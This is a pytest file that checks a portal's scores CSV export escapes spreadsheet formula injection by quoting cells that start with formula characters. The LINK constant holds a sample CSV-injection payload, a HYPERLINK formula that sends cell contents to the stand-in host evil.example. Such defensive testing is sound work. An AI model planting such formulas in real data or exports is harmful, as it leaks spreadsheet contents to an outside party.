"""The scores CSV opens in a spreadsheet as text: a cell that starts like a formula (=, +,
-, @, tab, carriage return), such as a member's name or a chair's comment, is never run."""

from __future__ import annotations

import csv
import io

import pytest

from portal.accounts.tables import User
from portal.checklists.tables import Assessment
from portal.security import spreadsheet_cell
from tests.checklists.test_reviews import _rated, _submitted

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_kept_as_text(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_unchanged():
    assert spreadsheet_cell("Publish your fee schedule.") == "Publish your fee schedule."
    assert spreadsheet_cell(2) == "2" and spreadsheet_cell("") == ""


async def test_a_formula_in_a_name_or_comment_is_text_in_the_export(client, make_agency, make_user):
    review = await _submitted(make_agency, make_user)
    await User.update({User.full_name: LINK}).where(User.id == review["union"].id)
    await _rated(client, review)
    cycle_id = (await Assessment.select(Assessment.cycle).first())["cycle"]
    export = await client.get(f"/cycles/{cycle_id}/scores.csv")
    # One Content-Type, and a BOM so that a spreadsheet reads the file as UTF-8.
    assert export.headers.get_list("content-type") == ["text/csv; charset=utf-8"]
    assert export.content.startswith(b"\xef\xbb\xbflicence_number,")
    rows = {r["indicator"]: r for r in csv.DictReader(io.StringIO(export.text))}
    assert rows["1.1"]["member_scores"] == f"'{LINK}: 2; Member Vanna: 1"
    assert rows["1.1"]["consensus_comment"] == "Publish your fee schedule."  # as it was
